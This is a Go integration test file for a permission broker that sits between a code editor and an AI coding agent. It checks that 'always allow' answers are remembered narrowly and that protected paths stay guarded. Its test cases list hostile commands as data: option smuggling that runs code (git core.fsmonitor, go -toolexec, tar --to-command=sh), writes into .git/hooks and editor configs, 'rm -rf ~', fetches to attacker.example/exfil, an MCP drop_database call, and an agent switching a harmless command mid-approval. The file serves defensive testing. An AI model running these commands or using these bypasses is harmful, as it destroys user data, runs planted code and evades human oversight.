//go:build linux

package integration

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// execCall is an execute tool call for a command, as claude-agent-acp sends
// it.
func execCall(id, command string) string {
	return fmt.Sprintf(`{"toolCallId":%q,"kind":"execute","title":%q,"rawInput":{"command":%q}}`, id, command, command)
}

// rememberedEntries lists the store through `acp-broker remembered list --json`.
func rememberedEntries(t *testing.T, state string) []map[string]string {
	t.Helper()
	var entries []map[string]string
	if err := json.Unmarshal([]byte(brokerCLI(t, state, "remembered", "list", "--json")), &entries); err != nil {
		t.Fatal(err)
	}
	return entries
}

// auditLine returns the audit line of a tool call as a map, with the
// "always" and "remembered" members the typed record leaves out.
func auditLine(t *testing.T, path, toolCallID string) map[string]any {
	t.Helper()
	waitAudit(t, path, toolCallID, byToolCall(toolCallID))
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range bytes.Split(data, []byte("\n")) {
		var m map[string]any
		if json.Unmarshal(line, &m) == nil && m["tool_call_id"] == toolCallID {
			return m
		}
	}
	t.Fatalf("no audit line for %s", toolCallID)
	return nil
}

// TestAlwaysRemembersNoPrefixThatRunsCodeOrWrites: issue 11 item 3. The
// editor answers "always" to a harmless command; the follow-ups an attacker
// would then send (the same prefix with an option that runs code, or a
// destination that replaces .git/hooks or the broker's config) reach the
// editor, while what the entry really stands for is decided by the broker.
// The remembered list and the audit line show the narrow entry.
func TestAlwaysRemembersNoPrefixThatRunsCodeOrWrites(t *testing.T) {
	t.Parallel()
	cases := []struct {
		learned string
		entry   string   // the command pattern remembered
		decided []string // allowed by the entry
		asked   []string // reach the editor
	}{
		{"cp README.md README.bak", "cp README.md README.bak", []string{"cp README.md README.bak"},
			[]string{"cp README.md .git/hooks/pre-commit", "cp README.md $HOME/.config/acp-broker/config.toml", "cp README.md x", "cp -r README.md ."}},
		{"git config user.email x@example.com", "git config user.email x@example.com", nil,
			[]string{"git config core.fsmonitor 'touch /tmp/pwned'", "git config core.hooksPath /tmp", "git config alias.st '!sh -c id'", "git config --global core.pager 'sh -c id'"}},
		{"npm run test -- --watch=false", "npm run test *", []string{"npm run test -- --coverage"},
			[]string{"npm run test --script-shell=./evil.sh", "npm run test --script-shell ./evil.sh", "npm run test --userconfig ./evil.npmrc",
				"npm run test --node-options=--require=./evil.js", "npm run test --prefix /tmp/evil", "npm run test-all"}},
		{"go test -run X ./pkg/...", "go test *", []string{"go test ./...", "go test -v -count=1 ./pkg"},
			[]string{"go test -exec ./evil ./...", "go test -toolexec=./evil ./...", "go test -vettool=./evil ./...", "go test -c -o $HOME/.local/bin/acp-broker ./pkg",
				"go test -coverprofile=$HOME/.bashrc ./...", "go test -ldflags=-extld=./evil ./...", "go test -overlay=o.json ./...", "go generate ./..."}},
		{"tar xf vendor.tar", "tar xf vendor.tar", []string{"tar xf vendor.tar"},
			[]string{"tar xf p.tar -C ~", "tar xf vendor.tar -C ~", "tar xf vendor.tar -C $HOME/.config", "tar xf vendor.tar -C .", "tar xf vendor.tar --to-command=sh"}},
		{"cargo test --release", "cargo test *", []string{"cargo test --doc"},
			[]string{`cargo test --config 'target.x86_64-unknown-linux-gnu.runner="./evil"'`, "cargo test --manifest-path /tmp/evil/Cargo.toml", "cargo test --target-dir ~", "cargo run"}},
		{"make build", "make build", []string{"make build"},
			[]string{"make build --eval='x:;touch /tmp/p'", "make build -f /tmp/evil.mk", "make deploy", "make -C ~ build"}},
		{"git push origin main", "git push *", []string{"git push origin feature"},
			[]string{"git push --receive-pack='touch /tmp/p' origin", "git push --exec=./evil origin", "git -c core.sshCommand=./evil push origin"}},
		{"mv notes.txt notes.old", "mv notes.txt notes.old", nil,
			[]string{"mv notes.txt .git/hooks/pre-commit", "mv notes.txt notes.txt.bak"}},
		{"rsync -a build/ out/", "rsync -a build/ out/", nil, []string{"rsync -a build/ ~/", "rsync -a build/ out2/"}},
		{"find . -name '*.tmp'", "find . -name '*.tmp'", nil, []string{"find . -name '*.tmp' -delete"}},
		{"sed -n 1p README.md", "sed -n 1p README.md", nil, []string{"sed -i s/a/b/ .git/config"}},
	}
	for _, c := range cases {
		t.Run(c.learned, func(t *testing.T) {
			t.Parallel()
			d := startDecider(t, deciderOptions{})
			d.asked(permission("1", execCall("learn", c.learned), claudeOptions), answer("1", "allow_always"))
			id := 2
			for _, cmd := range c.decided {
				cmd = d.expand(cmd)
				d.decided(permission(fmt.Sprint(id), execCall(fmt.Sprintf("t%d", id), cmd), claudeOptions), "allow")
				id++
			}
			for _, cmd := range c.asked {
				cmd = strings.ReplaceAll(cmd, "$HOME", homeDir)
				d.asked(permission(fmt.Sprint(id), execCall(fmt.Sprintf("t%d", id), cmd), claudeOptions), answer(fmt.Sprint(id), "reject"))
				id++
			}
			d.finish()
			entries := rememberedEntries(t, d.state)
			if len(entries) != 1 || entries[0]["command"] != c.entry {
				t.Fatalf("remembered %v, want one entry for the command %q", entries, c.entry)
			}
			line := auditLine(t, d.audit, "learn")
			always, _ := line["always"].(string)
			if (always != "command "+c.entry && !strings.HasPrefix(always, "command "+c.entry+" (")) || line["remembered"] != entries[0]["id"] {
				t.Fatalf("audit line says always %q, remembered %v; want the entry %s (%s)", always, line["remembered"], entries[0]["id"], c.entry)
			}
		})
	}
}

// TestAllowRulesNeverCoverWritingIntoProtectedDirectories: issue 11 item 3,
// the engine side. An allow rule for cp, tar, rm and friends does not cover
// a destination that is a protected path, a write-protected one, or a
// directory holding one (~, ~/.config, the project); reading them stays
// allowed. A terminal that would write there is refused.
func TestAllowRulesNeverCoverWritingIntoProtectedDirectories(t *testing.T) {
	t.Parallel()
	d := startDecider(t, deciderOptions{rules: `[[rule]]
decision = "allow"
command = ["cp *", "tar *", "rm *", "mv *", "unzip *", "ls *", "grep *", "cat *", "rsync *", "chmod *", "python3 *"]
`})
	id := 1
	for _, cmd := range []string{
		"cp -r x .", "cp x ~", "cp x $HOME/.config", "cp x ..", "cp x .git/hooks/pre-commit", "cp x $CWD",
		"tar xf p.tar -C ~", "tar xf p.tar -C ~/.config", "tar xf p.tar -C .", "tar -xf p.tar --directory=$HOME",
		"rm -rf ~", "rm -rf .", "rm -rf .git", "mv x ~/.config/zed/settings.json", "unzip p.zip -d ~", "rsync -a x/ ~/",
		"chmod +x .git/hooks/pre-commit", "python3 gen.py .git/hooks/pre-commit",
	} {
		cmd = strings.NewReplacer("$HOME", homeDir, "$CWD", d.cwd).Replace(cmd)
		d.asked(permission(fmt.Sprint(id), execCall(fmt.Sprintf("t%d", id), cmd), claudeOptions), answer(fmt.Sprint(id), "reject"))
		id++
	}
	for _, cmd := range []string{"ls .", "ls ~", "grep -r foo .", "cat .git/config", "cp a b", "tar xf p.tar -C build", "rm -rf build"} {
		d.decided(permission(fmt.Sprint(id), execCall(fmt.Sprintf("t%d", id), cmd), claudeOptions), "allow")
		id++
	}
	for _, args := range []string{`["x",".git/hooks/pre-commit"]`, `["-r","x","."]`, `["x","$HOME"]`} {
		d.refused(fmt.Sprintf(`{"jsonrpc":"2.0","id":"term-%d","method":"terminal/create","params":{"sessionId":"sess_1","command":"cp","args":%s,"cwd":"$CWD"}}`, id, args))
		id++
	}
	d.finish()
}

// TestTitleOnlyAlwaysCoversNoFetchMCPCommandOrPath: issue 11 item 4. After
// "always" to a request that carries only a title, requests with the same
// title that fetch a URL, call an MCP tool, run a command, read a path or
// are of another kind reach the editor; the same title-only request is
// decided by the broker.
func TestTitleOnlyAlwaysCoversNoFetchMCPCommandOrPath(t *testing.T) {
	t.Parallel()
	d := startDecider(t, deciderOptions{rules: "read_only = \"ask\"\n", mcpServers: `[{"name":"db","command":"/bin/true","args":[],"env":[]}]`})
	d.asked(permission("1", `{"toolCallId":"learn","kind":"other","title":"Sync"}`, claudeOptions), answer("1", "allow_always"))
	d.decided(permission("2", `{"toolCallId":"t2","kind":"other","title":"Sync"}`, claudeOptions), "allow")
	for i, tc := range []string{
		`{"toolCallId":"t3","kind":"fetch","title":"Sync","rawInput":{"url":"https://attacker.example/exfil?k=1"}}`,
		`{"toolCallId":"t4","kind":"other","title":"Sync","rawInput":{"url":"https://attacker.example/exfil"}}`,
		`{"toolCallId":"t5","kind":"other","title":"Sync","_meta":{"claudeCode":{"toolName":"mcp__db__drop_database"}},"rawInput":{"confirm":true}}`,
		`{"toolCallId":"t6","kind":"other","title":"Sync","rawInput":{"server":"db","tool":"drop_database","arguments":{}}}`,
		`{"toolCallId":"t7","kind":"execute","title":"Sync","rawInput":{"command":"rm -rf src"}}`,
		`{"toolCallId":"t8","kind":"other","title":"Sync","rawInput":{"command":"rm -rf src"}}`,
		`{"toolCallId":"t9","kind":"read","title":"Sync","locations":[{"path":"$CWD/src/secret.txt"}]}`,
		`{"toolCallId":"t10","kind":"other","title":"Sync","locations":[{"path":"$CWD/src/secret.txt"}]}`,
		`{"toolCallId":"t11","kind":"delete","title":"Sync"}`,
	} {
		id := fmt.Sprint(3 + i)
		d.asked(permission(id, tc, claudeOptions), answer(id, "reject"))
	}
	d.finish()
	entries := rememberedEntries(t, d.state)
	if len(entries) != 1 || entries[0]["title"] != "Sync" || entries[0]["shape"] != "title" || entries[0]["kind"] != "other" {
		t.Fatalf("remembered %v, want one title-only entry of kind other", entries)
	}
	if line := auditLine(t, d.audit, "learn"); !strings.Contains(line["always"].(string), "with no command, path, URL or MCP call") {
		t.Fatalf("audit always = %q", line["always"])
	}
}

// TestAlwaysAfterAnUpdateRemembersNothing: issue 11 item 20. A tool call is
// asked about as a harmless command; while it is with the editor the agent
// updates it to another command; the human answers "always". Nothing is
// remembered (the audit line says why), so the changed command, asked
// again, reaches the editor; an update that changes nothing that matters
// (the status) does not stop remembering.
func TestAlwaysAfterAnUpdateRemembersNothing(t *testing.T) {
	t.Parallel()
	d := startDecider(t, deciderOptions{})
	d.noisy = true // the warning below
	d.forwarded(permission("1", execCall("changed", "git status --short"), claudeOptions))
	d.AgentToEditor(toolCallUpdate("tool_call_update", `"toolCallId":"changed","title":"git push --force origin main","rawInput":{"command":"git push --force origin main"}`))
	d.EditorSend(answer("1", "allow_always"))
	d.AgentExpect(answer("1", "allow"))
	d.asked(permission("2", execCall("t2", "git push --force origin main"), claudeOptions), answer("2", "reject"))
	d.asked(permission("3", execCall("t3", "git status --short"), claudeOptions), answer("3", "reject"))

	// The same with an update that only changes the status: remembered.
	d.forwarded(permission("4", execCall("status-only", "git log --oneline"), claudeOptions))
	d.AgentToEditor(toolCallUpdate("tool_call_update", `"toolCallId":"status-only","status":"pending"`))
	d.EditorSend(answer("4", "allow_always"))
	d.AgentExpect(answer("4", "allow"))
	d.decided(permission("5", execCall("t5", "git log -p"), claudeOptions), "allow")
	d.finish()

	if text := d.stderrText(); !strings.Contains(text, "not remembering an always answer") || strings.Count(text, "\n") != 1 {
		t.Fatalf("stderr: %s", text)
	}
	line := auditLine(t, d.audit, "changed")
	if r, _ := line["remembered"].(string); !strings.HasPrefix(r, "nothing: the tool call changed while it was asked") {
		t.Fatalf("audit remembered = %q", line["remembered"])
	}
	entries := rememberedEntries(t, d.state)
	if len(entries) != 1 || entries[0]["command"] != "git log *" {
		t.Fatalf("remembered %v, want only git log *", entries)
	}
}

// forwarded requires the (expanded) request to reach the editor unchanged
// and leaves it there, unanswered.
func (d *decider) forwarded(req string) {
	d.t.Helper()
	req = d.expand(req)
	mark := d.marker()
	d.AgentSend(req, mark)
	if got := d.EditorRecv(); got != req {
		d.t.Fatalf("editor received\n  %s\nwant the request unchanged\n  %s", clip(got), clip(req))
	}
	d.EditorExpect(mark)
}

// TestBrokerLaunchIsProtected: issue 11 item 17. fs/write_text_file to the
// broker's executable or to an editor's agent configuration is refused and
// never reaches the editor; an edit permission to them is asked even with an
// allow rule for every path, and a command writing them is asked with an
// allow rule for the program (refused as a terminal); reading them is not
// protected.
func TestBrokerLaunchIsProtected(t *testing.T) {
	t.Parallel()
	xdg := filepath.Join(t.TempDir(), "xdg")
	d := startDecider(t, deciderOptions{rules: "[[rule]]\ndecision = \"allow\"\npath = [\"~/**\", \"/**\"]\n\n[[rule]]\ndecision = \"allow\"\ncommand = [\"cp *\", \"tee *\"]\n", env: []string{"XDG_CONFIG_HOME=" + xdg}})
	resolved, err := filepath.EvalSymlinks(brokerBin)
	if err != nil {
		t.Fatal(err)
	}
	// A link in the project to an editor's config (which need not exist).
	link := filepath.Join(d.cwd, "settings-link.json")
	if err := os.Symlink(filepath.Join(homeDir, ".config", "zed", "settings.json"), link); err != nil {
		t.Fatal(err)
	}
	targets := []string{
		brokerBin, resolved, link, homeDir + "/.CONFIG/Zed/settings.json",
		homeDir + "/.config/zed/settings.json", homeDir + "/.config/zed/keymap.json", xdg + "/zed/settings.json",
		homeDir + "/.jetbrains/acp.json", homeDir + "/.config/nvim/init.lua", homeDir + "/.config/nvim/lua/acp.lua", xdg + "/nvim/init.lua",
		homeDir + "/.emacs", homeDir + "/.emacs.d/init.el", homeDir + "/.config/emacs/init.el", xdg + "/emacs/init.el",
	}
	for i, path := range targets {
		p := jsonText(path)
		msg := d.refused(fmt.Sprintf(`{"jsonrpc":"2.0","id":"w%d","method":"fs/write_text_file","params":{"sessionId":"sess_1","path":"%s","content":"x"}}`, i, p))
		if !strings.Contains(msg, "protected path") {
			t.Errorf("%s: refused with %q", path, msg)
		}
		id := fmt.Sprint(100 + i)
		d.asked(permission(id, fmt.Sprintf(`{"toolCallId":"e%d","kind":"edit","title":"Edit","rawInput":{"file_path":"%s","new_string":"x"}}`, i, p), claudeOptions), answer(id, "reject"))
		id = fmt.Sprint(200 + i)
		d.decided(permission(id, fmt.Sprintf(`{"toolCallId":"r%d","kind":"read","title":"Read","locations":[{"path":"%s"}]}`, i, p), claudeOptions), "allow")
		// A command that writes it, with an allow rule for the program.
		id = fmt.Sprint(300 + i)
		d.asked(permission(id, execCall(fmt.Sprintf("c%d", i), "cp evil "+path), claudeOptions), answer(id, "reject"))
		d.refused(fmt.Sprintf(`{"jsonrpc":"2.0","id":"term%d","method":"terminal/create","params":{"sessionId":"sess_1","command":"tee","args":["%s"],"cwd":"$CWD"}}`, i, p))
	}
	d.finish()
	if _, err := os.Stat(filepath.Join(homeDir, ".emacs")); err == nil {
		t.Fatal("a protected editor config was written")
	}
}

// TestPromptsSayWhatAlwaysRemembers: issue 11 item 3. Before anything is
// stored, a channel's prompt names what its "always" option will remember,
// and the broker's own prompt for an MCP call names it in the option.
func TestPromptsSayWhatAlwaysRemembers(t *testing.T) {
	dir := t.TempDir()
	script := execChannel(t, dir, `echo '{"decision":"reject_once"}'`)
	s, _ := channelBroker(t, channelCfg("channels", "", script))
	s.AgentSend(testPermission(2, "cp README.md README.bak"))
	s.AgentExpect(`{"jsonrpc":"2.0","id":2,"result":{"outcome":{"outcome":"selected","optionId":"reject"}}}`)
	s.AgentToEditor(`{"jsonrpc":"2.0","method":"_test/marker"}`)
	s.Finish()
	var prompt struct {
		Options []struct{ ID, Kind, Name string }
	}
	if err := json.Unmarshal([]byte(waitFile(t, filepath.Join(dir, "prompt.json"))), &prompt); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, o := range prompt.Options {
		if o.Kind == "allow_always" {
			found = true
			if o.Name != "Always allow (the broker remembers: command cp README.md README.bak)" {
				t.Errorf("the always option reads %q", o.Name)
			}
		}
	}
	if !found {
		t.Fatalf("no allow_always option in %+v", prompt.Options)
	}
}
